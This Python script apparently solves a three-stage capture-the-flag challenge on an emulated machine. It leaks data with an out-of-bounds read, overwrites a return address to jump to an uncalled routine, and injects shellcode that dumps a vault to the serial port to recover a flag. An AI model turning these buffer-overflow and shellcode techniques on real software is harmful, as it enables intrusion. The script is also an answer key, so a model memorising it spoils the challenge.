"""clapper: a read before a table, and a run that leaves its buffer and writes over the return of its own routine."""

import re

from toll import Line, Pitches, Tunes, opened


class Attack:
    def __init__(self):
        self.manual, self.image = opened()
        self.tunes, self.pitches = Tunes(self.image), Pitches(self.image)
        _, _, found = self.image.find("LDI r7, ?stack", "ADDI r7, ?lift")
        # The call of the command, two registers, the buffer; above it lies where decode returns to.
        self.buffer = found["stack"] + found["lift"] + 6

    def plate(self):
        """Read the plate."""
        line, manual, text = Line(), self.manual, b""
        start = self.image.place(*self.image.plate)
        for i in range(8):
            text += manual.word(self.pitches.record(line, start + 4 * i))
        return text.decode()

    def run(self, code, target):
        """Return what comes back after code was put into the buffer and decode has returned to *target*."""
        code = code.ljust(self.tunes.size, b"\0")
        tune = self.tunes.encode(code + self.manual.word(self.manual.mangle(target, self.buffer + self.tunes.size)))
        return Line().ask(f"t {tune}")

    def striker(self):
        """Return to the routine that nothing calls."""
        port = self.manual.ports["STRIKER"]
        segment, offset, _ = self.image.find(f"LDI _, {port}", "CALL _", "CEQI _, 0", "BT _")
        return re.search(r"[0-9a-f]{16}", self.run(b"", self.image.place(segment, offset)))[0]

    def vault(self):
        """Open the vault and send what it holds, by code in the buffer."""
        code, ports = self.manual.code, self.manual.ports
        number = int(re.search(r"opens when the number (\w+)", self.manual.text)[1], 16)
        start = code("LDI", 0, ports["VKEY"]) + code("LDI", 1, number) + code("OUT", 0, 1)
        start += code("LDI", 0, ports["VDATA"]) + code("LDI", 2, ports["SERIAL"])
        loop = self.buffer + len(start)
        start += code("IN", 1, 0) + code("ROL", 1, 8) + code("OUT", 2, 1) + code("ROL", 1, 8) + code("OUT", 2, 1)
        # The vault gives zeros at its end; the watchdog ends the loop.
        return re.search(r"flag\{.*?\}", self.run(start + code("JMP", loop), self.buffer))[0]


def main():
    attack = Attack()
    return f"stage1: {attack.plate()}\nstage2: {attack.striker()}\nstage3: {attack.vault()}\n"
